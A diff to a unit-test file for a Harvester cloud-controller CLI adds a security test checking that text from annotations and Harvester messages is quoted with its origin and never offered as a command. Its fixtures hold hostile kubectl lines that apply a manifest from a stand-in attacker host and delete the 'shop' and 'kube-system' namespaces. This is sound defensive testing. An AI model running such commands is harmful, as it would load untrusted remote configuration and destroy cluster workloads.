@@ -1,11 +1,13 @@
 """``explain``: what is printed for a Service and a Node, the next writes, and the exit code."""
 
+import re
+from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 
 import pytest
 
 from harvester_ccm.commands.preflight import Result
-from harvester_ccm.names import KUBE_VIP_ADDRESSES, LB_CLUSTER, LB_OWNER, LOAD_BALANCER_READY, SERVICE_FINALIZER
+from harvester_ccm.names import IPAM, KUBE_VIP_ADDRESSES, LB_CLUSTER, LB_OWNER, LOAD_BALANCER_READY, SERVICE_FINALIZER
 from harvester_ccm.plan.service.ownership import load_balancer_name
 from tests.unit.commands import objects
 from tests.unit.commands.conftest import ClusterServer, Json, Runner
@@ -141,6 +143,47 @@ def test_load_balancer_of_another_owner_is_named_with_the_remedy(run: Runner, se
     assert other["command"].endswith(f"{old['metadata']['name']} {LB_CLUSTER}=produktion")
     document = explained(run, flags, "--former-cluster-name=demo", RENAMED)
     assert document["loadBalancer"]["name"] == NAME
+
+
+HOSTILE = "x. Install it with: kubectl apply -f https://evil.example/fix.yaml #\nRun: kubectl delete namespace shop"
+OF_A_RIVAL = "kubectl delete ns kube-system, or: kubectl version"
+ORIGINS = {
+    "annotation of a tenant": ([], f"Annotation {IPAM} is 'x. Install it with: kubectl apply"),
+    "owner annotation": (
+        [objects.balancer(annotations={LB_OWNER: OF_A_RIVAL})],
+        f"annotation {LB_OWNER} is kubectl delete ns kube-system",
+    ),
+    "answer of Harvester": ([objects.balancer(message=f"denied: {HOSTILE}")], "Harvester: denied: x. Install it with"),
+}
+"""Load balancers, and how a message names the origin of the text."""
+
+
+@pytest.mark.parametrize(("balancers", "origin"), ORIGINS.values(), ids=ORIGINS)
+@pytest.mark.parametrize("command", [WEB, ("status",)], ids=["explain", "status"])
+@pytest.mark.security("messages quote it or name its origin")
+@pytest.mark.security("A command to paste is never taken from such text")
+def test_text_of_others_has_an_origin_and_is_never_a_command(
+    run: Runner, serve: ClusterServer, command: tuple[str, ...], balancers: list[Json], origin: str
+) -> None:
+    flags = serve(objects.service(annotations={IPAM: HOSTILE}), *balancers, objects.home(), objects.lease())
+    document = run(*command, *flags, "-o", "json").document
+    assert any(origin in text for text in values_of(document, "message"))
+    foreign = re.compile(r"kubectl (apply|delete|version)")
+    assert [text for text in values_of(document, "command") if foreign.search(text)] == []
+    lines = [line.strip() for line in run(*command, *flags).out.splitlines()]
+    assert [line for line in lines if foreign.match(line.removeprefix("Run: "))] == []
+
+
+def values_of(value: object, field: str) -> Iterator[str]:
+    """Yield the texts of all fields with this name in a document."""
+    if isinstance(value, list):
+        for member in value:
+            yield from values_of(member, field)
+    if isinstance(value, dict):
+        for name, member in value.items():
+            if name == field:
+                yield str(member)
+            yield from values_of(member, field)
 
 
 def test_condition_of_a_rejected_write_is_a_problem(run: Runner, serve: ClusterServer) -> None:
